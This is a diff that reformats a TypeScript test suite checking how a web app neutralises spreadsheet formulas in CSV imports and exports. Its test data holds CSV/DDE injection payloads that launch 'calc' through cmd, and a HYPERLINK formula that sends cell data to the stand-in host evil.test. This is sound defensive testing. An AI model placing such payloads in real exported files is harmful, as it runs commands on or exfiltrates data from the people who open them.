@@ -39,12 +39,25 @@ afterAll(async () => {
 
 /** Cells a spreadsheet would run as a formula that calls something (a phone "+33…" is a number, "- a list" text). */
 const liveCells = (rows: Record<string, string>[]) =>
-	rows.flatMap((r) => Object.entries(r).filter(([k, v]) => k !== 'telephone' && (/^\s*=/.test(v) || (/^\s*[+\-@]\S/.test(v) && /[(|!]/.test(v)))).map(([k, v]) => `${k}=${v}`));
+	rows.flatMap((r) =>
+		Object.entries(r)
+			.filter(([k, v]) => k !== 'telephone' && (/^\s*=/.test(v) || (/^\s*[+\-@]\S/.test(v) && /[(|!]/.test(v))))
+			.map(([k, v]) => `${k}=${v}`)
+	);
 
 describe('issue 11, finding 12: formulas in CSV files', () => {
 	it('an import refuses a formula in a name or an address and drops it from a description; the national CSV has no live cell', async () => {
 		const records = [
-			{ ...base, id: 'formule-description', nom: 'Médiathèque Lacépède', presentation_resume: PAYLOAD, presentation_detail: '@SUM(1+1)*cmd|" /C calc"!A0', complement_adresse: '+cmd|" /C calc"!A0', structure_parente: '-2+3+cmd|" /C calc"!A0', autres_formations_labels: 'PIX|=1+1' },
+			{
+				...base,
+				id: 'formule-description',
+				nom: 'Médiathèque Lacépède',
+				presentation_resume: PAYLOAD,
+				presentation_detail: '@SUM(1+1)*cmd|" /C calc"!A0',
+				complement_adresse: '+cmd|" /C calc"!A0',
+				structure_parente: '-2+3+cmd|" /C calc"!A0',
+				autres_formations_labels: 'PIX|=1+1'
+			},
 			{ ...base, id: 'formule-nom', nom: PAYLOAD },
 			{ ...base, id: 'formule-adresse', nom: 'Espace numérique', adresse: '@SUM(A1)' },
 			{ ...base, id: '=formule-id', nom: 'Espace numérique 2' },
@@ -56,9 +69,14 @@ describe('issue 11, finding 12: formulas in CSV files', () => {
 		expect(report.rejected).toBe(3);
 		expect(report.created).toBe(3);
 		const warnings = JSON.stringify(report.warnings);
-		for (const f of ['presentation_resume', 'presentation_detail', 'complement_adresse', 'structure_parente', 'autres_formations_labels']) expect(warnings).toContain(`${f}\u00a0: `);
+		for (const f of ['presentation_resume', 'presentation_detail', 'complement_adresse', 'structure_parente', 'autres_formations_labels'])
+			expect(warnings).toContain(`${f}\u00a0: `);
 
-		const res = await placesCsv({ url: new URL('http://localhost/api/v1/places.csv?departement=47'), params: {}, request: new Request('http://localhost/api/v1/places.csv') } as never);
+		const res = await placesCsv({
+			url: new URL('http://localhost/api/v1/places.csv?departement=47'),
+			params: {},
+			request: new Request('http://localhost/api/v1/places.csv')
+		} as never);
 		const { rows } = parseStandardCsv(await res.text());
 		expect(rows.length).toBeGreaterThan(1);
 		expect(liveCells(rows as Record<string, string>[])).toEqual([]);
@@ -75,7 +93,11 @@ describe('issue 11, finding 12: formulas in CSV files', () => {
 
 	it('the Pass dashboard and statement CSVs neutralise formulas (leading apostrophe), numbers stay numbers', () => {
 		const row = (label: string) => ({ label, issued: 10, distributed: 5, redeemed: 2, reimbursed: 1, expired: 0, redeemedCents: 4000 });
-		const dash = dashboardCsv({ byCampaign: [row(PAYLOAD)], byArea: [row('@SUM(A1)')], byPlace: [row('+cmd|" /C calc"!A0'), row('-2+3'), row('Lieu normal')] } as never);
+		const dash = dashboardCsv({
+			byCampaign: [row(PAYLOAD)],
+			byArea: [row('@SUM(A1)')],
+			byPlace: [row('+cmd|" /C calc"!A0'), row('-2+3'), row('Lieu normal')]
+		} as never);
 		const cells = dash.split('\r\n').flatMap((l) => l.split(';'));
 		expect(cells.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
 		expect(dash).toContain(`"'=HYPERLINK(""https://evil.test/?d=""&A1;""Cliquez"")"`);
@@ -87,7 +109,12 @@ describe('issue 11, finding 12: formulas in CSV files', () => {
 			statement: { id: 'r1', monthLabel: 'novembre 2026', place: PAYLOAD, organisation: '@Org', siret: null, totalCents: -1250 },
 			vouchers: [{ code: 'ABCDEFGHJKMNPQ', campaign: '=1+1', redeemedAt: null, accompanimentDate: null, faceValueCents: 2000 }]
 		} as never);
-		expect(st.split('\r\n').flatMap((l) => l.split(';')).filter((c) => /^"?[=+@]/.test(c))).toEqual([]);
+		expect(
+			st
+				.split('\r\n')
+				.flatMap((l) => l.split(';'))
+				.filter((c) => /^"?[=+@]/.test(c))
+		).toEqual([]);
 		expect(st).toContain(';-12,50');
 		expect(neutraliseFormula('-12,50')).toBe('-12,50');
 		expect(neutraliseFormula('\tx')).toBe("'\tx");
